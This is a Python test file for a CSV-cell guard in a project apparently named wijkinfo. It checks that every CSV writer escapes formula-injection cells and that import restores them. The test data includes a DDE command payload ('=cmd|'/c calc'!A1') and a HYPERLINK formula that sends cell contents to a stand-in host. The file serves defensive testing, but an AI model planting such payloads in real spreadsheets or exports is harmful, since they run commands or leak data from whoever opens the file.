"""The one CSV-cell guard of every CSV wijkinfo writes: hostile cells become text, the rest stays."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wijkinfo.services.desk import tallies
from wijkinfo.services.exchange.csv_cells import guard_cell, unguard_cell
from wijkinfo.services.exchange.hsds_export import escape_cell
from wijkinfo.services.signals import export as signal_export

# (cell, what the CSV holds): the decisions are in csv_cells' docstring.
HOSTILE = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://x.example/?"&A1,"klik")', '\'=HYPERLINK("http://x.example/?"&A1,"klik")'),
    ("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"),
    ("+31 20 1234567", "'+31 20 1234567"),
    ("+5", "'+5"),
    ("-x", "'-x"),
    ("-2+3", "'-2+3"),
    ("-1e5", "'-1e5"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\tgewoon", "'\tgewoon"),
    ("\r=1+1", "'\r=1+1"),
    ("   =1+1", "'   =1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("\u00a0@x", "'\u00a0@x"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
    ("'=1+1", "''=1+1"),  # already an apostrophe: one more, so the import gives it back
]
HARMLESS = [
    ("-5", "-5"),
    ("-52.37", "-52.37"),
    ("0", "0"),
    ("gewoon", "gewoon"),
    ("Koffie = gezellig", "Koffie = gezellig"),
    ("'t Hoekje", "'t Hoekje"),
    ("  spaties", "  spaties"),
    ("", ""),
    (None, ""),
    (12, "12"),
    (-4.5, "-4.5"),
]


@pytest.mark.parametrize(("cell", "written"), HOSTILE + HARMLESS)
def test_every_csv_writer_guards_cells_by_the_same_rule(cell, written):
    assert guard_cell(cell) == written
    assert escape_cell(cell) == written
    assert signal_export.safe_cell(cell) == written
    assert tallies.csv_safe(cell) == written


@pytest.mark.parametrize(("cell", "written"), HOSTILE + HARMLESS[:-3])
def test_import_gives_the_original_back(cell, written):
    assert unguard_cell(written) == cell


@given(st.text())
def test_round_trip_is_exact_for_any_text(text):
    assert unguard_cell(guard_cell(text)) == text
